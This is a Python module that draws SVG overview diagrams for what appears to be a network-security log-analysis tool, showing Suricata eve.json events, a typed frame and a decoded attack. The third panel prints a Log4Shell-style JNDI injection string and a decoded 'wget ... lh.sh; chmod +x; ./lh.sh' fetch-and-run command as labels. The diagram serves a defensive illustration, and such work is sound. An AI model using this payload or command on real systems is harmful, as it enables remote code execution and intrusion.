"""Draw the picture of the front page, once for wide screens and once for telephones."""

from __future__ import annotations

from typing import TYPE_CHECKING
from xml.sax.saxutils import escape

if TYPE_CHECKING:
    from pathlib import Path

__all__ = ["draw"]

INK, FAINT, LINE, PAPER = "#1f2937", "#6b7280", "#cbd5e1", "#ffffff"
KINDS = {"flow": "#64748b", "dns": "#0f766e", "http": "#1d4ed8", "alert": "#b91c1c"}
WIDTH, HEIGHT, GAP, MARGIN = 300, 250, 74, 14

LINES = [
    ("http", '"flow_id":1563375…,"http":{'),
    ("dns", '"flow_id":9941084…,"dns":{'),
    ("alert", '"flow_id":1187302…,"alert":{'),
    ("flow", '"flow_id":1563375…,"flow":{'),
    ("http", '"flow_id":1187302…,"http":{'),
    ("alert", '"flow_id":1187302…,"alert":{'),
    ("flow", '"flow_id":1187302…,"flow":{'),
]


def _text(
    x: float, y: float, text: str, *, color: str = INK, size: int = 13, mono: bool = False
) -> str:
    family = (
        "ui-monospace,DejaVu Sans Mono,monospace" if mono else "system-ui,DejaVu Sans,sans-serif"
    )
    return (
        f'<text x="{x}" y="{y}" fill="{color}" font-size="{size}" font-family="{family}">'
        f"{escape(text)}</text>"
    )


def _box(x: float, y: float, width: float, height: float, *, fill: str, edge: str = "none") -> str:
    return (
        f'<rect x="{x}" y="{y}" width="{width}" height="{height}" rx="4"'
        f' fill="{fill}" stroke="{edge}"/>'
    )


def _panel(x: float, y: float, title: str) -> list[str]:
    return [
        _box(x, y, WIDTH, HEIGHT, fill=PAPER, edge=LINE),
        _text(x + 14, y + 26, title, size=15),
    ]


def _file(x: float, y: float) -> list[str]:
    parts = _panel(x, y, "eve.json: one event a line")
    for place, (kind, rest) in enumerate(LINES):
        row = y + 56 + 28 * place
        parts += [
            _box(x + 14, row - 13, 46, 18, fill=KINDS[kind]),
            _text(x + 19, row, kind, color=PAPER, size=12, mono=True),
            _text(x + 66, row, rest, color=FAINT, size=12, mono=True),
        ]
    return parts


def _frame(x: float, y: float) -> list[str]:
    parts = _panel(x, y, "a typed frame, rows by event type")
    columns = {"http": (0, 1, 2, 3), "dns": (0, 1, 4), "alert": (0, 1, 2, 5), "flow": (0, 1, 6)}
    names = ["timestamp", "flow_id", "", "", "", "", ""]
    parts += [
        _text(x + 62 + 68 * place, y + 54, name, color=FAINT, size=11, mono=True)
        for place, name in enumerate(names)
        if name
    ]
    row = y + 64
    for kind, filled in columns.items():
        for _ in range(2):
            parts.append(_text(x + 14, row + 14, kind, color=KINDS[kind], size=12, mono=True))
            for column in range(7):
                left = x + 62 + (68 * column if column < 2 else 136 + 18 * (column - 2))
                wide = 62 if column < 2 else 13
                fill = KINDS[kind] if column in filled else "#f1f5f9"
                parts.append(_box(left, row, wide, 17, fill=fill))
            row += 22
        row += 2
    return parts


def _finding(x: float, y: float) -> list[str]:
    url = ["${${lower:j}ndi:ldap://203.0.113.77", ":1389/Base64/d2dldCBodHRwOi8v…}"]
    return [
        *_panel(x, y, "what the attacker hid"),
        *(
            _text(x + 14, y + 54 + 18 * place, text, color=KINDS["alert"], size=12, mono=True)
            for place, text in enumerate(url)
        ),
        _text(x + 14, y + 106, "resolved", color=FAINT, size=12),
        _text(x + 14, y + 124, "${jndi:ldap://203.0.113.77:1389/…}", size=12, mono=True),
        _text(x + 14, y + 152, "callback", color=FAINT, size=12),
        _text(x + 14, y + 170, "203.0.113.77, port 1389", size=12, mono=True),
        _text(x + 14, y + 198, "decoded", color=FAINT, size=12),
        _text(x + 14, y + 216, "wget http://203.0.113.77/lh.sh;", size=12, mono=True),
        _text(x + 14, y + 234, "chmod +x lh.sh;./lh.sh", size=12, mono=True),
    ]


def _arrow(x: float, y: float, label: str, *, down: bool) -> list[str]:
    if down:
        path, place = f"M{x} {y}v44m-7 -9l7 9l7 -9", (x + 16, y + 27)
    else:
        path, place = f"M{x} {y}h54m-9 -7l9 7l-9 7", (x - 3, y - 12)
    return [
        f'<path d="{path}" fill="none" stroke="{INK}" stroke-width="2"/>',
        _text(*place, label, size=12, mono=True),
    ]


def _picture(*, tall: bool) -> str:
    step = (0, HEIGHT + 56) if tall else (WIDTH + GAP, 0)
    size = (WIDTH, 3 * HEIGHT + 112) if tall else (3 * WIDTH + 2 * GAP, HEIGHT)
    parts: list[str] = []
    for place, panel in enumerate((_file, _frame, _finding)):
        parts += panel(MARGIN + place * step[0], MARGIN + place * step[1])
    for place, label in enumerate(("read_eve", "payloads")):
        if tall:
            x, y = MARGIN + WIDTH / 2, MARGIN + HEIGHT + 6 + place * step[1]
        else:
            x, y = MARGIN + WIDTH + 10 + place * step[0], MARGIN + HEIGHT / 2
        parts += _arrow(x, y, label, down=tall)
    width, height = size[0] + 2 * MARGIN, size[1] + 2 * MARGIN
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {width} {height}"'
        f' width="{width}" height="{height}">\n'
        f'<rect width="{width}" height="{height}" rx="8" fill="#f8fafc"/>\n'
        + "\n".join(parts)
        + "\n</svg>\n"
    )


def draw(folder: Path) -> None:
    """Write ``overview-wide.svg`` and ``overview-tall.svg`` into a folder."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, tall in (("wide", False), ("tall", True)):
        (folder / f"overview-{name}.svg").write_text(_picture(tall=tall), encoding="utf-8")
